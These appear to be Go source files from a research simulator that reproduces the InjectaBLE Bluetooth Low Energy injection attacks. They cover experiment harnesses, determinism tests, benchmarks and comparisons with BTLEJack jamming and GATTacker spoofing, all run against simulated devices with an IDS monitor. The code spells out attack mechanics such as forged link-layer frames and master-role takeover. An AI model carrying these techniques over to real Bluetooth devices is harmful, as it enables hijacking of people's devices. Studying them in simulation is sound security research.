			"clean miss rate", "clean drops"},
		Notes: []string{
			fmt.Sprintf("%d attacked + %d clean connections per scale", n, n),
			"paper: smaller windows mechanically reduce injection success, at the cost of link stability",
		},
	}
	for _, o := range outs {
		mean := "-"
		if o.AttackStats.N() > 0 {
			mean = fmt.Sprintf("%.2f", o.AttackStats.Mean())
		}
		t.Rows = append(t.Rows, []string{
			fmt.Sprintf("%.2f", o.Scale),
			fmt.Sprintf("%d/%d", o.InjectionFailures, n),
			mean,
			fmt.Sprintf("%.1f%%", 100*o.CleanMissRate),
			fmt.Sprintf("%d/%d", o.CleanDrops, n),
		})
	}
	return t
}

// AppLayerCryptoOutcome demonstrates the §VIII anti-pattern: application-
// layer payload authentication stops scenario A but not the LL-control
// attacks.
type AppLayerCryptoOutcome struct {
	// WriteInjectionExecuted: did a forged vendor write execute? (must be
	// false — the app layer rejects unauthenticated payloads).
	WriteInjectionExecuted bool
	// SlaveHijacked: did LL_TERMINATE_IND still expel the device? (true —
	// LL control frames are not covered by GATT-layer crypto).
	SlaveHijacked bool
	// MasterStillServed: the attacker serves the master after the hijack.
	MasterStillServed bool
}

// RunAppLayerCrypto models a vendor that authenticates its GATT payloads
// (a MAC the attacker cannot forge) instead of enabling LL encryption.
func RunAppLayerCrypto(seed uint64) (AppLayerCryptoOutcome, error) {
	var out AppLayerCryptoOutcome
	s, err := newScene("lightbulb", seed, false)
	if err != nil {
		return out, err
	}
	// Application-layer authentication: the bulb ignores command payloads
	// lacking the vendor MAC (which the attacker cannot compute).
	authenticated := func(v []byte) bool {
		return len(v) > 2 && v[len(v)-1] == 0xA7 && v[len(v)-2] == 0x55
	}
	executed := false
	s.bulb.Peripheral.GATT.FindCharacteristic(devices.UUIDBulbControl).OnWrite = func(v []byte) {
		if authenticated(v) {
			executed = true
		}
	}
	if err := s.connect(); err != nil {
		return out, err
	}

	// Scenario A against the protected payload: the write lands but the
	// application discards it.
	var rep *injectable.Report
	err = s.attacker.InjectWrite(s.bulb.ControlHandle(), devices.PowerCommand(true),
		func(r injectable.Report) { rep = &r })
	if err != nil {
		return out, err
	}
	s.w.RunFor(40 * sim.Second)
	out.WriteInjectionExecuted = executed
	if rep == nil || !rep.Success {
		return out, fmt.Errorf("experiments: injection itself failed")
	}

	// Scenario B still works: LL control frames bypass GATT-layer crypto.
	var hijack *injectable.SlaveHijack
	err = s.attacker.HijackSlave(forgedNameServer(), func(h *injectable.SlaveHijack, e error) {
		if e == nil {
			hijack = h
		}
	})
	if err != nil {
		return out, err
	}
	s.w.RunFor(40 * sim.Second)
	out.SlaveHijacked = hijack != nil && !s.target.Connected()
	out.MasterStillServed = s.phone.Central.Connected()
	return out, nil
}

// AppLayerCryptoTable renders the anti-pattern demonstration.
func AppLayerCryptoTable(o AppLayerCryptoOutcome) *Table {
	return &Table{
		Title:  "§VIII anti-pattern — application-layer crypto instead of LL encryption",
		Header: []string{"forged write executed", "slave still hijacked", "master served by attacker"},
		Rows: [][]string{{
			fmt.Sprintf("%t (app MAC rejected it)", o.WriteInjectionExecuted),
			fmt.Sprintf("%t (LL_TERMINATE_IND is not covered)", o.SlaveHijacked),
			fmt.Sprintf("%t", o.MasterStillServed),
		}},
		Notes: []string{
			"paper: \"we strongly advise against this solution, since in this case the LL control",
			"frames will not be encrypted\"",
		},
	}
}
