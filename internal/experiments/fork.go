package experiments

import (
	"context"

	"injectable/internal/host"
	"injectable/internal/obs"
	"injectable/internal/sim"
)

// This file is the fork-based trial fast path. A configuration's trials
// all begin the same way — build a world, establish the connection, let
// the sniffer synchronise — and only diverge once the injection race
// starts. WarmTrial pays that common prefix once, snapshots the world,
// and then forks each trial from the snapshot with trial-specific
// randomness: Fork restores the captured state in place and RekeyStreams
// reseeds every random stream from (its own identity, trial seed), so a
// forked trial is byte-identical to a fresh world warmed with the same
// warm seed and rekeyed the same way (RunTrialWarmFresh — the
// differential reference the determinism tests compare against).

// WarmTrialSeed derives the warm-world seed of a point whose trials use
// seeds base, base+1, … — a sibling stream that never collides with any
// trial's seed (or rekey salt, which is the trial seed itself).
func WarmTrialSeed(base uint64) uint64 {
	return sim.NewRNG(base).Child("warm").Seed()
}

// WarmTrial is a warmed, reusable trial environment: a world advanced
// through connection establishment and attacker sync, snapshotted at the
// moment the injection phase would begin. One WarmTrial serves any number
// of sequential trials on one goroutine (campaign workers hold one per
// point); it is not safe for concurrent use.
type WarmTrial struct {
	cfg  TrialConfig
	tw   *trialWorld
	hub  *obs.Hub
	snap *host.Snapshot
}

// NewWarmTrial builds a world for cfg seeded with warmSeed (cfg.Seed is
// overridden), establishes the connection and snapshots. cfg.Obs is
// ignored: the warm world records into a private hub whose post-warm
// contents replay into every fork, and RunFork absorbs it into the
// per-trial sink — so each trial's observability is exactly what a
// self-warming trial would have recorded.
func NewWarmTrial(cfg TrialConfig, warmSeed uint64) (*WarmTrial, error) {
	cfg = cfg.withDefaults()
	cfg.Seed = warmSeed
	hub := obs.NewHub()
	cfg.Obs = hub
	tw, err := buildTrialWorld(cfg)
	if err != nil {
		return nil, err
	}
	if err := tw.warm(cfg); err != nil {
		return nil, err
	}
	wt := &WarmTrial{cfg: cfg, tw: tw, hub: hub}
	wt.snap = tw.w.Snapshot()
	return wt, nil
}

// RunFork runs one trial from the snapshot: restore, rekey every random
// stream with the trial seed, race the injection, absorb the world's
// private hub (warm-phase metrics and forensics included) into sink.
// sink may be nil (no observability). Any number of RunFork calls replay
// from the same snapshot; equal trial seeds give byte-identical results.
func (wt *WarmTrial) RunFork(trialSeed uint64, sink *obs.Hub, ctx context.Context) (TrialResult, error) {
	wt.tw.w.Fork(wt.snap)
	wt.tw.w.RekeyStreams(trialSeed)
	cfg := wt.cfg
	cfg.Ctx = ctx
	res, err := wt.tw.attack(cfg)
	sink.Absorb(wt.hub)
	return res, err
}

// RunTrialWarmFresh is the differential twin of the fork path on a fresh
// world: build with the warm seed, warm identically, rekey with the trial
// seed, attack. No snapshot is involved, so any divergence between this
// and (NewWarmTrial + RunFork) indicts the snapshot/restore machinery.
// cfg.Obs, when non-nil, receives the absorbed private hub like RunFork's
// sink does.
func RunTrialWarmFresh(cfg TrialConfig, warmSeed, trialSeed uint64) (TrialResult, error) {
	sink := cfg.Obs
	cfg = cfg.withDefaults()
	cfg.Seed = warmSeed
	hub := obs.NewHub()
	cfg.Obs = hub
	tw, err := buildTrialWorld(cfg)
	if err != nil {
		return TrialResult{}, err
	}
	if err := tw.warm(cfg); err != nil {
		return TrialResult{}, err
	}
	tw.w.RekeyStreams(trialSeed)
	res, err := tw.attack(cfg)
	sink.Absorb(hub)
	return res, err
}

// Forensics exposes the warm world's ledger records — the fork-side
// counterpart of a trial hub's ledger for differential comparison.
func (wt *WarmTrial) Forensics() []obs.InjectionRecord {
	return wt.hub.Led().Records()
}

// CounterfactualOutcome pairs one trial's two timelines — identical up to
// the instant the injection phase begins, one with the attack and one
// without. Because both arms fork the same snapshot and rekey with the
// same trial seed, every difference between them is caused by the
// injected traffic alone.
type CounterfactualOutcome struct {
	// Injected is the attack arm's result.
	Injected TrialResult
	// BaselineEffect reports the observable effect (bulb command applied,
	// or disconnect for the terminate payload) occurring in the attack-free
	// arm — a spontaneous effect the heuristic could falsely attribute.
	BaselineEffect bool
	// Causal: the effect appeared under injection and not in the baseline,
	// i.e. the attack demonstrably caused it.
	Causal bool
}

// RunCounterfactual runs the attack arm (exactly RunFork) and then the
// attack-free arm from the same snapshot with the same rekey, watching
// the same ground-truth observers over the same simulated span.
func (wt *WarmTrial) RunCounterfactual(trialSeed uint64, sink *obs.Hub, ctx context.Context) (CounterfactualOutcome, error) {
	injected, err := wt.RunFork(trialSeed, sink, ctx)
	if err != nil {
		return CounterfactualOutcome{}, err
	}

	// Baseline arm: same fork, same randomness, no injector.
	wt.tw.w.Fork(wt.snap)
	wt.tw.w.RekeyStreams(trialSeed)
	baseline := wt.tw.effectProbe(wt.cfg)
	if err := runFor(wt.tw.w, wt.cfg.SimBudget, ctx); err != nil {
		return CounterfactualOutcome{}, err
	}
	return CounterfactualOutcome{
		Injected:       injected,
		BaselineEffect: baseline(),
		Causal:         injected.EffectObserved && !baseline(),
	}, nil
}
