package experiments

import (
	"fmt"

	"injectable/internal/ble"
	"injectable/internal/devices"
	"injectable/internal/host"
	"injectable/internal/ids"
	"injectable/internal/injectable"
	"injectable/internal/link"
	"injectable/internal/sim"
)

// BaselineOutcome compares a prior-art attack with InjectaBLE on the same
// objective.
type BaselineOutcome struct {
	Name    string
	Success bool
	// FramesTransmitted counts attacker transmissions (stealth proxy).
	FramesTransmitted int
	// JamBursts counts noise bursts (zero for InjectaBLE).
	JamBursts int
	// TimeToEffect is virtual time from attack start to the objective.
	TimeToEffect sim.Duration
	// IDSJammingAlerts counts how loudly an RF monitor saw the attack.
	IDSJammingAlerts int
	Detail           string
}

// RunBTLEJackBaseline reproduces the BTLEJack master hijack (paper §II,
// ref. [9]): jam every slave response until the legitimate master drops
// the connection through its supervision timeout, then adopt the master
// role. Loud and slow compared to scenario C's single forged frame.
func RunBTLEJackBaseline(seed uint64) (BaselineOutcome, error) {
	w := host.NewWorld(host.WorldConfig{Seed: seed})
	out := BaselineOutcome{Name: "btlejack-jam-hijack", Detail: "jam slave responses until master times out"}

	bulbPos, centralPos, attackerPos := trianglePositions()
	bulb := devices.NewLightbulb(w.NewDevice(host.DeviceConfig{Name: "bulb", Position: bulbPos}))
	phone := devices.NewSmartphone(w.NewDevice(host.DeviceConfig{Name: "phone", Position: centralPos}),
		devices.SmartphoneConfig{ActivityInterval: -1})
	atkDev := w.NewDevice(host.DeviceConfig{
		Name: "attacker", Position: attackerPos,
		ClockPPM: 20, ClockJitter: 500 * sim.Nanosecond,
	})
	monitor := ids.New(ids.Config{})
	w.Medium.AddObserver(monitor)

	sniffer := injectable.NewSniffer(atkDev.Stack)
	sniffer.Start()
	bulb.Peripheral.StartAdvertising()
	phone.Connect(bulb.Peripheral.Device.Address())
	w.RunFor(3 * sim.Second)
	if !phone.Central.Connected() || !sniffer.Following() {
		return out, fmt.Errorf("experiments: baseline setup failed")
	}

	start := w.Now()
	// BTLEJack jams with a power advantage; model the nRF's maximum.
	atkDev.Stack.Radio.SetTxPower(8)

	jamming := true
	// Jam the slave's response window: right after each sniffed master
	// frame, blast noise through the T_IFS gap and the response slot.
	sniffer.OnPacket = func(p injectable.SniffedPacket) {
		if !jamming || p.Role != link.RoleMaster {
			return
		}
		out.JamBursts++
		out.FramesTransmitted++
		sniffer.Pause()
		radio := atkDev.Stack.Radio
		// The radio is tuned to the event's channel already (sniffer).
		radio.TransmitNoise(ble.TIFS + 400*sim.Microsecond)
		radio.OnTxDone = func() {
			radio.OnTxDone = nil
			// The jam consumed the rest of this event: advance the
			// sniffer's event counter before re-arming it.
			sniffer.State().EventCount++
			sniffer.Resume()
		}
	}

	var conn *link.Conn
	masterGone := false
	phone.Central.OnDisconnect = func(link.DisconnectReason) {
		masterGone = true
		jamming = false
		out.TimeToEffect = w.Now().Sub(start)
		// Take over the master role immediately — the slave's own
		// supervision timeout is already counting.
		st := sniffer.State()
		if st == nil || !sniffer.Following() {
			return // lost sync: BTLEJack's takeover fragility
		}
		sniffer.Stop()
		c, err := link.AdoptMaster(atkDev.Stack, st.Params, st.Slave, link.AdoptionState{
			EventCount: st.EventCount,
			SN:         st.SlaveNESN,
			NESN:       !st.SlaveSN,
			LastAnchor: st.LastAnchor,
		}, st.PredictedAnchor())
		if err == nil {
			conn = c
		}
	}
	w.RunFor(8 * sim.Second)
	if !masterGone {
		return out, nil
	}
	out.Success = conn != nil && !conn.Closed() && bulb.Peripheral.Connected()
	out.IDSJammingAlerts = len(monitor.AlertsOf(ids.AlertJamming))
	return out, nil
}

// RunInjectaBLEMasterHijackComparison runs scenario C under the same
// conditions and metrics as the BTLEJack baseline.
func RunInjectaBLEMasterHijackComparison(seed uint64) (BaselineOutcome, error) {
	out := BaselineOutcome{Name: "injectable-master-hijack", Detail: "single forged CONNECTION_UPDATE"}
	s, err := newScene("lightbulb", seed, true)
	if err != nil {
		return out, err
	}
	if err := s.connect(); err != nil {
		return out, err
	}
	start := s.w.Now()
	var hijack *injectable.MasterHijack
	err = s.attacker.HijackMaster(injectable.UpdateParams{},
		func(h *injectable.MasterHijack, e error) {
			hijack = h
			out.TimeToEffect = s.w.Now().Sub(start)
		})
	if err != nil {
		return out, err
	}
	s.w.RunFor(60 * sim.Second)
	if hijack == nil {
		return out, nil
	}
	out.FramesTransmitted = hijack.Report.AttemptCount()
	out.Success = !hijack.Conn.Closed() && s.target.Connected() && !s.phone.Central.Connected()
	out.IDSJammingAlerts = len(s.monitor.AlertsOf(ids.AlertJamming))
	return out, nil
}

// RunGATTackerBaseline reproduces the BTLEJuice/GATTacker pre-connection
// MITM (paper §II, refs. [7][15]): one attacker dongle connects to the
// real peripheral (silencing its advertising, BTLEJuice-style) while a
// second exposes a clone to the victim central. Against an *already
// established* connection this machinery can only wait — the paper's core
// point about prior MITM tooling.
func RunGATTackerBaseline(seed uint64, connectionEstablishedFirst bool) (BaselineOutcome, error) {
	w := host.NewWorld(host.WorldConfig{Seed: seed})
	name := "gattacker-spoof"
	if connectionEstablishedFirst {
		name += "-vs-established"
	}
	out := BaselineOutcome{Name: name, Detail: "advertisement spoofing (pre-connection only)"}

	bulbPos, centralPos, attackerPos := trianglePositions()
	bulb := devices.NewLightbulb(w.NewDevice(host.DeviceConfig{Name: "bulb", Position: bulbPos}))
	phone := devices.NewSmartphone(w.NewDevice(host.DeviceConfig{Name: "phone", Position: centralPos}),
		devices.SmartphoneConfig{ActivityInterval: -1})
	holdDev := w.NewDevice(host.DeviceConfig{Name: "attacker-hold", Position: attackerPos})
	cloneDev := w.NewDevice(host.DeviceConfig{Name: "attacker-clone", Position: attackerPos})

	if connectionEstablishedFirst {
		bulb.Peripheral.StartAdvertising()
		phone.Connect(bulb.Peripheral.Device.Address())
		w.RunFor(2 * sim.Second)
	}

	// Dongle 1 grabs the real peripheral so it stops advertising.
	hold := host.NewCentral(holdDev, host.CentralConfig{})
	if !connectionEstablishedFirst {
		bulb.Peripheral.StartAdvertising()
		hold.Connect(bulb.Peripheral.Device.Address())
		w.RunFor(2 * sim.Second)
		out.FramesTransmitted++ // the CONNECT_REQ
	}

	// Dongle 2 clones the bulb: same address, fast advertising.
	cloneDev.Stack.Address = bulb.Peripheral.Device.Address()
	clone := link.NewAdvertiser(cloneDev.Stack, link.AdvertiserConfig{
		AdvData:  []byte{0x02, 0x01, 0x06},
		Interval: 20 * sim.Millisecond,
	})
	hooked := false
	clone.OnConnect = func(c *link.Conn) { hooked = true }
	clone.Start()

	if !connectionEstablishedFirst {
		phone.Connect(bulb.Peripheral.Device.Address())
	}
	w.RunFor(5 * sim.Second)
	out.Success = hooked
	if connectionEstablishedFirst && hooked {
		return out, fmt.Errorf("experiments: spoofing hooked an established connection — impossible")
	}
	return out, nil
}

// BaselineTable renders baseline comparisons.
func BaselineTable(outcomes []BaselineOutcome) *Table {
	t := &Table{
		Title: "prior-art baselines vs InjectaBLE (paper §II / §VI-C)",
		Header: []string{"attack", "success", "attacker frames", "jam bursts",
			"time to effect", "IDS jamming alerts", "detail"},
	}
	for _, o := range outcomes {
		t.Rows = append(t.Rows, []string{
			o.Name, fmt.Sprintf("%t", o.Success), fmt.Sprintf("%d", o.FramesTransmitted),
			fmt.Sprintf("%d", o.JamBursts), o.TimeToEffect.String(),
			fmt.Sprintf("%d", o.IDSJammingAlerts), o.Detail,
		})
	}
	return t
}
