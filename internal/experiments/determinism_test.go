package experiments

import (
	"runtime/debug"
	"testing"
)

// TestDeterminismIndependentOfGCAndWorkers is the regression fence for the
// allocation-reuse machinery (pooled scheduler events, arena-backed frames,
// worker-local arenas): rendered experiment output must not depend on when
// the garbage collector runs or how many workers the campaign uses. If any
// pooled object leaked state between trials — or an RNG draw moved — GC
// timing or work stealing would perturb these bytes.
func TestDeterminismIndependentOfGCAndWorkers(t *testing.T) {
	render := func(parallel int) string {
		exp, err := Experiment1HopInterval(Options{TrialsPerPoint: 2, Parallel: parallel})
		if err != nil {
			t.Fatalf("parallel=%d: %v", parallel, err)
		}
		return exp.Table().Render()
	}

	baseline := render(1)

	// GC disabled: pooled/arena memory is never reclaimed mid-run, so any
	// dependence on object reuse timing surfaces as a byte difference.
	gc := debug.SetGCPercent(-1)
	noGCSerial := render(1)
	noGCParallel := render(4)
	debug.SetGCPercent(gc)

	// GC forced aggressive: collections interleave with trial execution.
	debug.SetGCPercent(1)
	aggressive := render(4)
	debug.SetGCPercent(gc)

	for _, c := range []struct {
		name string
		got  string
	}{
		{"GOGC=off serial", noGCSerial},
		{"GOGC=off parallel=4", noGCParallel},
		{"GOGC=1 parallel=4", aggressive},
	} {
		if c.got != baseline {
			t.Errorf("%s output differs from default-GC serial run:\n%s\n--- vs ---\n%s",
				c.name, c.got, baseline)
		}
	}
}
