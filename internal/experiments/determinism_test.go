package experiments

import (
	"bytes"
	"fmt"
	"runtime/debug"
	"testing"

	"injectable/internal/medium"
	"injectable/internal/phy"
)

// TestDeterminismIndependentOfGCAndWorkers is the regression fence for the
// allocation-reuse machinery (pooled scheduler events, arena-backed frames,
// worker-local arenas): rendered experiment output must not depend on when
// the garbage collector runs or how many workers the campaign uses. If any
// pooled object leaked state between trials — or an RNG draw moved — GC
// timing or work stealing would perturb these bytes.
func TestDeterminismIndependentOfGCAndWorkers(t *testing.T) {
	render := func(parallel int) string {
		exp, err := Experiment1HopInterval(Options{TrialsPerPoint: 2, Parallel: parallel})
		if err != nil {
			t.Fatalf("parallel=%d: %v", parallel, err)
		}
		return exp.Table().Render()
	}

	baseline := render(1)

	// GC disabled: pooled/arena memory is never reclaimed mid-run, so any
	// dependence on object reuse timing surfaces as a byte difference.
	gc := debug.SetGCPercent(-1)
	noGCSerial := render(1)
	noGCParallel := render(4)
	debug.SetGCPercent(gc)

	// GC forced aggressive: collections interleave with trial execution.
	debug.SetGCPercent(1)
	aggressive := render(4)
	debug.SetGCPercent(gc)

	for _, c := range []struct {
		name string
		got  string
	}{
		{"GOGC=off serial", noGCSerial},
		{"GOGC=off parallel=4", noGCParallel},
		{"GOGC=1 parallel=4", aggressive},
	} {
		if c.got != baseline {
			t.Errorf("%s output differs from default-GC serial run:\n%s\n--- vs ---\n%s",
				c.name, c.got, baseline)
		}
	}
}

// TestForkDeterminismMatrix is the fork path's differential harness run at
// campaign scale: for several ablation dimensions (payload, phone-grade
// clock, wall, capture model), the full sweep pipeline — campaign engine,
// per-trial obs hubs, NDJSON and metrics encoders — must emit byte-for-byte
// identical streams whether trials fork a per-worker snapshot ("shared") or
// build fresh worlds with the shared warm seed ("shared-fresh"), at any
// worker count. Any divergence indicts snapshot capture/restore or stream
// rekeying, with the failing dimension naming the state that escaped.
func TestForkDeterminismMatrix(t *testing.T) {
	bulb, central, attacker := trianglePositions()
	base := TrialConfig{
		Interval: 36, Payload: PayloadPowerOff,
		BulbPos: bulb, CentralPos: central, AttackerPos: attacker,
		MaxAttempts: 40,
	}
	configs := []struct {
		name string
		cfg  func() TrialConfig
	}{
		{"payload-toggle", func() TrialConfig {
			c := base
			c.Interval, c.Payload = 75, PayloadToggle
			return c
		}},
		{"phone-grade", func() TrialConfig {
			c := base
			c.PhoneGrade = true
			return c
		}},
		{"wall", func() TrialConfig {
			c := base
			c.AttackerPos = phy.Position{X: -2}
			c.Walls = []phy.Wall{{
				A:    phy.Position{X: -0.5, Y: -10},
				B:    phy.Position{X: -0.5, Y: 10},
				Loss: phy.DefaultWallLoss,
			}}
			return c
		}},
		{"capture-coinflip", func() TrialConfig {
			c := base
			c.Capture = medium.CoinFlip{P: 0.35}
			return c
		}},
	}

	for _, tc := range configs {
		tc := tc
		t.Run(tc.name, func(t *testing.T) {
			pts := []SweepPoint{{Label: tc.name, SeedBase: 6000, Cfg: tc.cfg()}}
			run := func(mode string, parallel int) (ndjson, metrics string) {
				var nd, mt bytes.Buffer
				opts := Options{
					TrialsPerPoint: 3,
					Parallel:       parallel,
					Warmup:         mode,
					NDJSON:         &nd,
					Metrics:        &mt,
				}
				if _, err := runSweep(opts, "fork-determinism", pts); err != nil {
					t.Fatalf("%s parallel=%d: %v", mode, parallel, err)
				}
				return nd.String(), mt.String()
			}

			refND, refMT := run(WarmupSharedFresh, 1)
			if refND == "" || refMT == "" {
				t.Fatal("reference run produced empty streams")
			}
			for _, mode := range []string{WarmupShared, WarmupSharedFresh} {
				for _, parallel := range []int{1, 4, 8} {
					if mode == WarmupSharedFresh && parallel == 1 {
						continue // the reference itself
					}
					nd, mt := run(mode, parallel)
					label := fmt.Sprintf("%s parallel=%d", mode, parallel)
					if nd != refND {
						t.Errorf("%s: NDJSON diverges from shared-fresh serial reference:\n%s\n--- vs ---\n%s",
							label, nd, refND)
					}
					if mt != refMT {
						t.Errorf("%s: metrics stream diverges:\n%s\n--- vs ---\n%s", label, mt, refMT)
					}
				}
			}
		})
	}
}
