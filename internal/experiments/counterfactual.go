package experiments

import (
	"fmt"

	"injectable/internal/campaign"
)

// The counterfactual study is the snapshot machinery applied as an
// instrument rather than an optimisation: for every trial, the attack
// timeline and an attack-free baseline are forked from the same warmed
// snapshot with the same trial randomness, so the two timelines are
// identical up to the instant the injection phase begins. An effect that
// appears in the attack arm and not in the baseline is *caused* by the
// injected traffic — ground truth the paper's eq. 7 heuristic can be
// audited against without any statistical argument.

// counterfactualPoints sweeps the four payloads at Hop Interval 75 on the
// paper's triangle, like exp2 but in its own absolute seed block.
func counterfactualPoints(opts Options) []SweepPoint {
	bulb, central, attacker := trianglePositions()
	var pts []SweepPoint
	for i, payload := range []Payload{PayloadTerminate, PayloadToggle, PayloadPowerOff, PayloadColor} {
		pts = append(pts, SweepPoint{
			Label:    payload.String(),
			SeedBase: opts.SeedBase + 90000 + uint64(i)*1000,
			Cfg: TrialConfig{
				Interval:    75,
				Payload:     payload,
				BulbPos:     bulb,
				CentralPos:  central,
				AttackerPos: attacker,
			},
		})
	}
	return pts
}

// counterfactualSpec expands the points into a fork-based campaign whose
// trial functions return CounterfactualOutcome values. The study is
// fork-based by construction (both arms replay one snapshot), so
// Options.Warmup does not apply here.
func counterfactualSpec(opts Options, pts []SweepPoint) *campaign.Spec {
	spec := &campaign.Spec{Name: "counterfactual", SeedBase: opts.SeedBase}
	for _, sp := range pts {
		cfg := sp.Cfg
		base := sp.SeedBase
		trials := sp.Trials
		if trials == 0 {
			trials = opts.TrialsPerPoint
		}
		spec.Points = append(spec.Points, campaign.Point{
			Label:    sp.Label,
			Trials:   trials,
			Seed:     func(i int) uint64 { return base + uint64(i) },
			WarmSeed: WarmTrialSeed(base),
			Warmup: func(u campaign.Warmup) (any, error) {
				c := cfg
				c.Arena = u.Arena
				c.Ctx = u.Ctx
				wt, err := NewWarmTrial(c, u.Seed)
				if err != nil {
					return nil, err
				}
				return wt, nil
			},
			Run: func(t campaign.Trial) (any, error) {
				if t.WarmErr != nil {
					return CounterfactualOutcome{}, t.WarmErr
				}
				return t.Warm.(*WarmTrial).RunCounterfactual(t.Seed, t.Obs, t.Ctx)
			},
		})
	}
	return spec
}

// CounterfactualPoint aggregates one payload's paired timelines.
type CounterfactualPoint struct {
	Label string
	// Trials collected (failures excluded).
	Trials int
	// HeuristicSuccess counts attack arms the eq. 7 heuristic called
	// successful; EffectObserved counts attack arms whose effect the device
	// model actually showed.
	HeuristicSuccess int
	EffectObserved   int
	// BaselineEffect counts attack-free arms showing the effect anyway —
	// each one is a false attribution the heuristic cannot detect.
	BaselineEffect int
	// Causal counts trials whose effect appeared with the attack and not
	// without it.
	Causal int
	// Failures counts trials that errored.
	Failures int
}

// ExperimentCounterfactual runs the counterfactual study and collates it
// per payload.
func ExperimentCounterfactual(opts Options) ([]CounterfactualPoint, error) {
	opts.applyDefaults()
	pts := counterfactualPoints(opts)
	spec := counterfactualSpec(opts, pts)

	index := make(map[string]int, len(pts))
	for i, sp := range pts {
		index[sp.Label] = i
	}
	points := make([]CounterfactualPoint, len(pts))
	for i, sp := range pts {
		points[i].Label = sp.Label
	}
	collect := campaign.OnResult(func(r campaign.Result) {
		p := &points[index[r.Point]]
		if r.Err != nil {
			p.Failures++
			return
		}
		out := r.Value.(CounterfactualOutcome)
		p.Trials++
		if out.Injected.Success {
			p.HeuristicSuccess++
		}
		if out.Injected.EffectObserved {
			p.EffectObserved++
		}
		if out.BaselineEffect {
			p.BaselineEffect++
		}
		if out.Causal {
			p.Causal++
		}
		opts.progress(r.Point, r.Index)
	})
	if _, err := opts.runner(collect).Run(spec); err != nil {
		return nil, err
	}
	return points, nil
}

// CounterfactualTable renders the study.
func CounterfactualTable(points []CounterfactualPoint) *Table {
	t := &Table{
		Title:  "counterfactual — attacker-on vs attacker-off from one snapshot",
		Header: []string{"payload", "trials", "heuristic-success", "effect", "baseline-effect", "causal", "fail"},
		Notes: []string{
			"both arms fork the same warmed snapshot with the same randomness;",
			"causal = effect observed with the attack and absent without it",
		},
	}
	for _, p := range points {
		t.Rows = append(t.Rows, []string{
			p.Label,
			fmt.Sprintf("%d", p.Trials),
			fmt.Sprintf("%d", p.HeuristicSuccess),
			fmt.Sprintf("%d", p.EffectObserved),
			fmt.Sprintf("%d", p.BaselineEffect),
			fmt.Sprintf("%d", p.Causal),
			fmt.Sprintf("%d", p.Failures),
		})
	}
	return t
}
