package experiments

import (
	"testing"

	"injectable/internal/sim"
)

// The fork fast path exists to amortise trial startup: building a world
// and establishing the connection dominates a trial's cost, and every
// trial of a point repeats it identically. These two benchmarks measure
// the same trial executed both ways — BENCH_9.json pins the ratio, and
// the CI gate keeps the forked path from regressing toward the fresh one.

func benchCfg() TrialConfig {
	// SimBudget is explicit: the 120 s default exists for slow sweeps'
	// worst cases and would dominate both paths here; 2 s still covers
	// the full MaxAttempts race with margin.
	return TrialConfig{Interval: 36, MaxAttempts: 40, SimBudget: 2 * sim.Second}
}

// BenchmarkTrialForked is the fast path: one warm world, every iteration
// forks the snapshot and runs only the injection race.
func BenchmarkTrialForked(b *testing.B) {
	const base = 31000
	wt, err := NewWarmTrial(benchCfg(), WarmTrialSeed(base))
	if err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res, err := wt.RunFork(base+uint64(i%64), nil, nil)
		if err != nil {
			b.Fatal(err)
		}
		if !res.Success && res.Attempts == 0 {
			b.Fatal("trial did not run")
		}
	}
}

// BenchmarkTrialFresh is the differential reference: every iteration
// builds a fresh world, warms it through connection establishment, and
// runs the same injection race.
func BenchmarkTrialFresh(b *testing.B) {
	const base = 31000
	warmSeed := WarmTrialSeed(base)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res, err := RunTrialWarmFresh(benchCfg(), warmSeed, base+uint64(i%64))
		if err != nil {
			b.Fatal(err)
		}
		if !res.Success && res.Attempts == 0 {
			b.Fatal("trial did not run")
		}
	}
}
