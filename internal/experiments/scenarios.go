package experiments

import (
	"fmt"

	"injectable/internal/att"
	"injectable/internal/ble/pdu"
	"injectable/internal/campaign"
	"injectable/internal/devices"
	"injectable/internal/gatt"
	"injectable/internal/host"
	"injectable/internal/ids"
	"injectable/internal/injectable"
	"injectable/internal/link"
	"injectable/internal/sim"
)

// scene bundles one attack-scenario world: a target device, a smartphone
// central, an attacker and an optional IDS.
type scene struct {
	w        *host.World
	attacker *injectable.Attacker
	phone    *devices.Smartphone
	monitor  *ids.Monitor

	bulb  *devices.Lightbulb
	fob   *devices.Keyfob
	watch *devices.Smartwatch

	target     *host.Peripheral
	targetName string
}

// newScene builds the triangle topology around the named target device
// ("lightbulb", "keyfob" or "smartwatch").
func newScene(target string, seed uint64, withIDS bool) (*scene, error) {
	return newSceneWith(target, seed, withIDS, Instrumentation{})
}

// newSceneWith is newScene with observability attached: the tracer and
// obs hub flow into every layer of the world, and the pcap writer taps
// the attacker's sniffer.
func newSceneWith(target string, seed uint64, withIDS bool, inst Instrumentation) (*scene, error) {
	w := host.NewWorld(host.WorldConfig{Seed: seed, Tracer: inst.Tracer, Obs: inst.Obs})
	s := &scene{w: w, targetName: target}
	bulbPos, centralPos, attackerPos := trianglePositions()

	dev := w.NewDevice(host.DeviceConfig{Name: target, Position: bulbPos})
	switch target {
	case "lightbulb":
		s.bulb = devices.NewLightbulb(dev)
		s.target = s.bulb.Peripheral
	case "keyfob":
		s.fob = devices.NewKeyfob(dev)
		s.target = s.fob.Peripheral
	case "smartwatch":
		s.watch = devices.NewSmartwatch(dev)
		s.target = s.watch.Peripheral
	default:
		return nil, fmt.Errorf("experiments: unknown target %q", target)
	}
	s.phone = devices.NewSmartphone(w.NewDevice(host.DeviceConfig{
		Name: "phone", Position: centralPos,
	}), devices.SmartphoneConfig{ActivityInterval: -1})
	atk := w.NewDevice(host.DeviceConfig{
		Name: "attacker", Position: attackerPos,
		ClockPPM: 20, ClockJitter: 500 * sim.Nanosecond,
	})
	s.attacker = injectable.NewAttacker(atk.Stack, injectable.InjectorConfig{})
	if inst.Pcap != nil {
		capturePcap(s.attacker.Sniffer, inst.Pcap)
	}
	if withIDS {
		s.monitor = ids.New(ids.Config{})
		w.Medium.AddObserver(s.monitor)
	}
	return s, nil
}

// connect brings the connection up with the attacker synchronised.
func (s *scene) connect() error {
	s.attacker.Sniffer.Start()
	s.target.StartAdvertising()
	s.phone.Connect(s.target.Device.Address())
	s.w.RunFor(3 * sim.Second)
	if !s.phone.Central.Connected() {
		return fmt.Errorf("experiments: connection failed")
	}
	if !s.attacker.Sniffer.Following() {
		return fmt.Errorf("experiments: sniffer failed to sync")
	}
	return nil
}

// featureTrigger returns the scenario-A feature write for the scene's
// target, plus a ground-truth check.
